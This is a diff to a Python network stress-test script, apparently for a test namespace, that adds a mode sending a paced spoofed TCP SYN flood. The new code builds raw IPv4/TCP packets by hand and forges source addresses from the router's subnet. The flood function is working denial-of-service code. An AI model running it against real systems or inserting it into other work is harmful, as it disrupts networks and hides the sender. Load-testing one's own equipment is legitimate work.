@@ -8,6 +8,10 @@ namespace; one JSON line of what happened on stdout.
     python3 flood.py dests LOCAL_IP NID ROUTER_NID NET COUNT
         One connection from LOCAL_IP as NID sending COUNT PUTs, each to
         another made-up NID on NET (10.200.x.y@NET).
+    python3 flood.py syn ROUTER_IP PORT SECONDS COUNT
+        COUNT TCP SYNs to ROUTER_IP:PORT spread over SECONDS, each from a
+        made-up address of the router's /24 (.100 to .249, no such hosts)
+        and port: a spoofed SYN flood, never answered.
 
 Python 3 standard library only.
 """
@@ -92,8 +96,43 @@ def dests(local_ip, local, router, net, count):
     return {"sent": sent, "seconds": time.monotonic() - start}
 
 
+def syn_flood(router_ip, port, seconds, count):
+    """Raw IPv4 SYNs with made-up sources (the kernel sends what is built)."""
+    def csum(b):
+        if len(b) % 2:
+            b += b"\0"
+        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+        while s >> 16:
+            s = (s & 0xffff) + (s >> 16)
+        return ~s & 0xffff
+
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_aton(router_ip)
+    prefix = router_ip.rsplit(".", 1)[0]
+    start = time.monotonic()
+    sent = 0
+    for i in range(count):
+        src = socket.inet_aton("%s.%d" % (prefix, 100 + i % 150))
+        sport = 20000 + (i * 7) % 40000
+        tcp = struct.pack("!HHIIBBHHH", sport, port, (i * 2654435761) & 0xffffffff, 0, 7 << 4, 0x02, 64240, 0, 0)
+        tcp += struct.pack("!BBH", 2, 4, 1460) + b"\x01\x01\x04\x02"  # MSS, NOP NOP SACK-permitted
+        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0, 64, 6, 0, src, dst)
+        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+        raw.sendto(ip + tcp, (router_ip, 0))
+        sent += 1
+        ahead = start + seconds * (i + 1) / count - time.monotonic()
+        if ahead > 0:
+            time.sleep(ahead)
+    return {"sent": sent, "seconds": time.monotonic() - start}
+
+
 def main():
     kind = sys.argv[1]
+    if kind == "syn":
+        print(json.dumps(syn_flood(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]))))
+        return 0
     if kind == "sources":
         out = sources(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]))
     else:
